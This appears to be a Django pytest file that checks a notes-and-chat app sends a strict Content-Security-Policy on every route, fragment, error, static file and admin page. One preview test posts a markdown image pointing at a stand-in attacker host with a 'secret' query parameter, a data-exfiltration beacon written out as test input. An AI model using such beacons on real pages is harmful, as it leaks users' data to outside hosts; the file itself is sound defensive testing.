"""Every response carries the Content-Security-Policy: pages, HTMX fragments, the API, errors,
redirects, static files and the admin.

The routes are found by walking the URL resolver, so a route added later is checked without
editing this file; a route whose parameters this test cannot fill fails the test (add the
parameter to `FILL`).
"""

from __future__ import annotations

import json
import re
from collections.abc import Mapping

import pytest
from django.contrib import admin
from django.contrib.auth.tokens import default_token_generator
from django.http import HttpRequest, HttpResponse, HttpResponseBase
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, path, reverse
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from tests.factories import NotebookFactory, NoteFactory
from tests.fixtures.documents import upload

pytestmark = pytest.mark.django_db

HEADER = "Content-Security-Policy"
# The policy, directive by directive, in the order the header lists them. Scripts and styles
# only from our files (no inline code, no eval), no remote images.
DIRECTIVES = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self' {socket}",  # + the page's own WebSocket origin (the chat)
    "object-src": "'none'",
    "base-uri": "'none'",
    "frame-ancestors": "'self'",
    "form-action": "'self'",
}
# A view may set a stricter policy of its own; these routes keep theirs.
OWN_POLICY = {
    # The PDF opens in the browser's viewer, sandboxed: a PDF's JavaScript runs nowhere.
    "attachments/<int:attachment_id>/file/": "sandbox; default-src 'none'; object-src 'none'",
}


def policy(socket: str | None = "ws://testserver") -> str:
    parts = [f"{name} {value}" for name, value in DIRECTIVES.items()]
    text = "; ".join(parts).replace(" {socket}", f" {socket}" if socket else "")
    return text


def assert_policy(response: HttpResponseBase, expected: str | None = None, what: str = "") -> None:
    header = response.get(HEADER)
    assert header is not None, f"no {HEADER} on {what or response}"
    assert header == (expected or policy()), what
    assert "unsafe" not in header, what  # no 'unsafe-inline', 'unsafe-eval', 'unsafe-hashes'


# --- the routes -----------------------------------------------------------------------------

Route = tuple[str, str]  # (route as written, e.g. "notes/<int:note_id>/", its name)
# How each URL parameter is filled: the key of alice's objects below.
FILL = {
    "notebook_id": "notebook",
    "note_id": "note",
    "attachment_id": "attachment",
    "conversation_id": "conversation",
    "message_id": "message",
    "token_id": "token",
    "memory_id": "memory",
    "member_id": "member",
    "output_id": "output",
    # Alice's password-reset link.
    "uidb64": "reset_uid",
    "token": "reset_token",
}
PARAMETER = re.compile(r"<(?:\w+:)?(\w+)>")


def app_routes() -> list[Route]:
    """Every route outside the admin (which `test_the_admin_has_the_policy` walks by model)."""
    found: list[Route] = []

    def walk(patterns: list[URLPattern | URLResolver], prefix: str, namespace: str) -> None:
        for p in patterns:
            route = prefix + str(p.pattern)
            if isinstance(p, URLPattern):
                found.append((route, f"{namespace}:{p.name}" if namespace else str(p.name)))
            elif p.app_name != "admin":
                walk(p.url_patterns, route, p.namespace or namespace)

    walk(get_resolver().url_patterns, "", "")
    return found


def fill(route: str, ids: Mapping[str, int | str]) -> str:
    def value(match: re.Match[str]) -> str:
        parameter = match.group(1)
        if parameter not in FILL:
            raise AssertionError(f"cannot fill <{parameter}> of {route}: add it to FILL")
        return str(ids[FILL[parameter]])

    url = "/" + PARAMETER.sub(value, route)
    if re.search(r"[\^$()\[\]\\?*+]", url):
        raise AssertionError(f"{route} is a regular expression: give it a plain route")
    return url


def test_every_route_can_be_filled():
    assert len(app_routes()) > 50
    ids = dict.fromkeys(FILL.values(), 1)
    for route, _ in app_routes():
        fill(route, ids)


@pytest.fixture
def alices_objects(alice) -> dict[str, int | str]:
    from accounts.services import api_token_create
    from chat.models import Conversation, Memory, Message

    notebook = NotebookFactory.create(owner=alice, title="Alice's notebook")
    note = NoteFactory.create(notebook=notebook, title="Alice's note", body="Some *text*.")
    attachment = upload(alice, note, "text.pdf")
    from attachments.thumbnails import thumbnail_make

    assert thumbnail_make(attachment=attachment) is not None  # so its thumbnail answers 200
    token, _ = api_token_create(user=alice, name="alice's script")
    conversation = Conversation.objects.create(
        owner=alice, notebook=notebook, note=note, title="Alice's chat"
    )
    question = Message.objects.create(conversation=conversation, role="user", content="Why?")
    answer = Message.objects.create(
        conversation=conversation,
        role="assistant",
        content="Because **of this** [1].",
        status="complete",
        reply_to=question,
    )
    return {
        "notebook": notebook.pk,
        "note": note.pk,
        "attachment": attachment.pk,
        "token": token.pk,
        "conversation": conversation.pk,
        "message": answer.pk,
        "memory": Memory.objects.create(
            owner=alice, notebook=notebook, kind="preference", text="I prefer <b>tables</b>."
        ).pk,
        "output": _studio_output(notebook, alice, attachment.pk),
        "reset_uid": urlsafe_base64_encode(force_bytes(alice.pk)),
        "reset_token": default_token_generator.make_token(alice),
        "member": _member_of(notebook, alice),
    }


def _studio_output(notebook, owner, attachment_id: int) -> int:
    """A ready Studio output (flashcards: its CSV is a route too) whose text holds markup."""
    from django.core.files.base import ContentFile

    from studio.models import StudioOutput

    citation = {"n": 1, "kind": "document", "attachment_id": attachment_id, "file": "a.pdf",
                "page": 1, "quote": "<b>bold</b>"}  # fmt: skip
    cards = [{"front": "<i>front</i>", "back": "<b>bold</b> [1]"}]
    output = StudioOutput.objects.create(
        notebook=notebook, created_by=owner, kind="flashcards", title="<b>Cards</b>",
        status="ready", token=1,
        content={"sections": [{"heading": "H", "items": cards}], "citations": [citation]},
    )  # fmt: skip
    output.audio.save("overview.mp3", ContentFile(b"ID3 audio"), save=True)  # its MP3 route
    return int(output.pk)


def _member_of(notebook, owner) -> int:
    """A user the notebook is shared with (the sharing pages name members)."""
    from notes.services import membership_add
    from tests.factories import UserFactory

    member = UserFactory.create(username="mona")
    membership_add(notebook=notebook, by=owner, identifier="mona", role="viewer")
    return int(member.pk)


def _check_every_route(client: Client, ids: dict[str, int | str], *, logged_in: bool) -> list[str]:
    problems: list[str] = []
    seen: set[str] = set()
    for route, name in app_routes():
        url = fill(route, ids)
        if url in seen:  # the API names one path once per method
            continue
        seen.add(url)
        response = client.get(url)
        what = f"GET {url} ({name}) answered {response.status_code}"
        if response.status_code == 500 or (
            logged_in and response.status_code == 404 and PARAMETER.search(route)
        ):
            problems.append(what)  # broken, or not filled with an object alice can see
        try:
            own = OWN_POLICY.get(route) if response.status_code == 200 else None
            assert_policy(response, own, what)
        except AssertionError as exc:
            problems.append(f"{what}: {exc}: {response.get(HEADER)!r}")
    return problems


def test_every_route_has_the_policy_for_a_logged_in_user(alice_client, alices_objects):
    problems = _check_every_route(alice_client, alices_objects, logged_in=True)
    assert problems == [], "\n".join(problems)


def test_every_route_has_the_policy_for_an_anonymous_visitor(anon_client, alices_objects):
    problems = _check_every_route(anon_client, alices_objects, logged_in=False)
    assert problems == [], "\n".join(problems)


# --- the kinds of response ----------------------------------------------------------------


def test_pages_carry_the_policy_and_load_only_our_files(alice_client, alices_objects):
    response = alice_client.get(f"/notes/{alices_objects['note']}/")
    assert response.status_code == 200
    assert_policy(response)
    page = response.content.decode()
    # No inline script, no inline style, no inline event handler, no javascript: URL.
    assert re.findall(r"<script(?![^>]*\ssrc=)[^>]*>", page) == []
    assert "<style" not in page
    assert not re.search(r"<[a-z][^>]*\s(on\w+|style|hx-on[:\w-]*)\s*=", page, flags=re.I)
    assert "javascript:" not in page.lower()
    for src in re.findall(r"<script[^>]*\ssrc=\"([^\"]+)\"", page):
        # Our files, and Django's JavaScript translation catalogue (same origin, generated).
        assert src.startswith("/static/") or src == "/jsi18n/", src


def test_htmx_config_keeps_htmx_inside_the_policy(alice_client, alices_objects):
    page = alice_client.get("/").content.decode()
    config = re.search(r"<meta name=\"htmx-config\" content='([^']*)'>", page)
    assert config is not None
    settings = json.loads(config.group(1))
    assert (settings["includeIndicatorStyles"], settings["allowEval"]) == (False, False)
    assert settings["allowScriptTags"] is False
    # 429 refusals (the preview pane's) are swapped in; other errors are not.
    handling = {rule["code"]: rule["swap"] for rule in settings["responseHandling"]}
    assert handling == {"204": False, "[23]..": True, "429": True, "[45]..": False}


def test_an_htmx_fragment_carries_the_policy(alice_client, alices_objects):
    response = alice_client.post(
        f"/notes/{alices_objects['note']}/preview/",
        {"body": "# Hi\n\n![x](https://attacker.example/?q=secret)"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200
    assert response.content.decode().lstrip().startswith('<div id="preview"')
    assert "<img" not in response.content.decode()
    assert_policy(response)

    row = alice_client.get(
        f"/attachments/{alices_objects['attachment']}/row/", headers={"HX-Request": "true"}
    )
    assert row.status_code == 200
    assert_policy(row)


def test_an_htmx_request_after_the_session_ended_carries_the_policy(anon_client, alices_objects):
    response = anon_client.get(
        f"/chats/messages/{alices_objects['message']}/", headers={"HX-Request": "true"}
    )
    assert response.status_code == 401
    assert response["HX-Redirect"].startswith("/accounts/login/")
    assert_policy(response)


def test_api_responses_carry_the_policy(alice_api, alices_objects):
    for url in ("/api/me", f"/api/notebooks/{alices_objects['notebook']}", "/api/nothing"):
        response = alice_api.get(url)
        assert response.status_code in (200, 404)
        assert_policy(response, what=url)
    refused = Client().get("/api/me")
    assert refused.status_code == 401
    assert_policy(refused)


def test_not_found_and_refused_requests_carry_the_policy(alice_client, alices_objects, bob_note):
    for url in ("/no-such-page/", f"/notes/{bob_note.pk}/", "/notes/999999/"):
        response = alice_client.get(url)
        assert response.status_code == 404, url
        assert_policy(response, what=url)

    csrf_checked = Client(enforce_csrf_checks=True)
    csrf_checked.force_login(bob_note.author)
    forged = csrf_checked.post("/", {"title": "forged"})
    assert forged.status_code == 403
    assert_policy(forged)


def test_a_disallowed_host_gets_the_policy_without_a_socket_origin(alice_client):
    response = alice_client.get("/accounts/login/", headers={"Host": "attacker.example"})
    assert response.status_code == 400
    assert_policy(response, policy(socket=None))


def test_over_tls_the_socket_origin_is_wss(alice_client):
    response = alice_client.get("/", secure=True)
    assert_policy(response, policy(socket="wss://testserver"))


def _boom(request: HttpRequest) -> HttpResponse:
    raise RuntimeError("boom")


urlpatterns = [path("boom/", _boom)]  # for the server error below


@pytest.mark.urls("tests.test_csp")
def test_a_server_error_carries_the_policy(alice):
    client = Client(raise_request_exception=False)
    client.force_login(alice)
    response = client.get("/boom/")
    assert response.status_code == 500
    assert_policy(response)


def test_static_files_carry_the_policy(settings, alice_client):
    # An SVG opened on its own is a document that could run script; the policy covers it too.
    settings.WHITENOISE_USE_FINDERS = True
    client = Client()  # a new client builds the middleware with the setting above
    for url in ("/static/favicon.svg", "/static/js/chat.js", "/static/css/app.css"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_policy(response, what=url)


# --- the admin -------------------------------------------------------------------------------


def _admin_urls() -> list[str]:
    """The admin's index and login, each app's index, and for every registered model its list,
    add form, and the change, history and delete pages of its first object."""
    urls = [reverse("admin:index"), reverse("admin:login"), reverse("admin:password_change")]
    for model in admin.site._registry:
        opts = model._meta
        app, name = opts.app_label, opts.model_name
        urls.append(reverse("admin:app_list", kwargs={"app_label": app}))
        urls.append(reverse(f"admin:{app}_{name}_changelist"))
        urls.append(reverse(f"admin:{app}_{name}_add"))
        first = model._default_manager.order_by("pk").first()
        if first is not None:
            for view in ("change", "history", "delete"):
                urls.append(reverse(f"admin:{app}_{name}_{view}", args=[first.pk]))
    return list(dict.fromkeys(urls))


@pytest.mark.parametrize("as_staff", [True, False], ids=["staff", "anonymous"])
def test_the_admin_has_the_policy(as_staff, admin_client, anon_client, alices_objects):
    client = admin_client if as_staff else anon_client
    problems = []
    for url in _admin_urls():
        response = client.get(url)
        what = f"GET {url} answered {response.status_code}"
        if response.status_code >= 500 or (as_staff and response.status_code == 404):
            problems.append(what)
        elif response.get(HEADER) != policy():
            problems.append(f"{what} with {response.get(HEADER)!r}")
    assert problems == [], "\n".join(problems)
